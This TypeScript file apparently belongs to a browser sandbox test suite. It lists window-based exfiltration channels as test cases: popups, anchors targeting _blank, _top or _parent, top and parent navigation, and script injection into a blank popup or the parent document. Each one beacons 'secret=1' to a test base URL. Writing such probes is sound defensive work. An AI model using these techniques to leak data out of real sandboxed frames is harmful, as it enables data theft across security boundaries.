import type { Channel } from "./channel.ts";

/** Other windows: new ones, and those the view sits in. */
export const WINDOWS: readonly Channel[] = [
  {
    id: "popup_open",
    family: "window",
    entry: 41,
    attack: (t) => window.open(`${t.base}/c?secret=1`),
  },
  {
    id: "popup_anchor",
    family: "window",
    entry: 41,
    attack: (t) => t.element("a", { href: `${t.base}/c?secret=1`, target: "_blank" }).click(),
  },
  {
    id: "popup_blank_write",
    family: "window",
    entry: 41,
    attack: (t) =>
      window
        .open("about:blank")
        ?.document.write(`<script>new Image().src="${t.base}/img?secret=1"</script>`),
  },
  {
    id: "top_location",
    family: "window",
    entry: 43,
    needsClick: true,
    attack: (t) => {
      (top as Window).location.href = `${t.base}/c?secret=1`;
    },
  },
  {
    id: "top_anchor",
    family: "window",
    entry: 43,
    needsClick: true,
    attack: (t) => t.element("a", { href: `${t.base}/c?secret=1`, target: "_top" }).click(),
  },
  {
    id: "parent_location",
    family: "window",
    entry: 44,
    attack: (t) => {
      parent.location.href = `${t.base}/c?secret=1`;
    },
  },
  {
    id: "parent_anchor",
    family: "window",
    entry: 44,
    attack: (t) => t.element("a", { href: `${t.base}/c?secret=1`, target: "_parent" }).click(),
  },
  {
    id: "parent_realm",
    family: "window",
    entry: 45,
    attack: (t) => {
      const script = parent.document.createElement("script");
      script.textContent = `new Image().src="${t.base}/img?secret=1"`;
      parent.document.body.append(script);
    },
  },
];
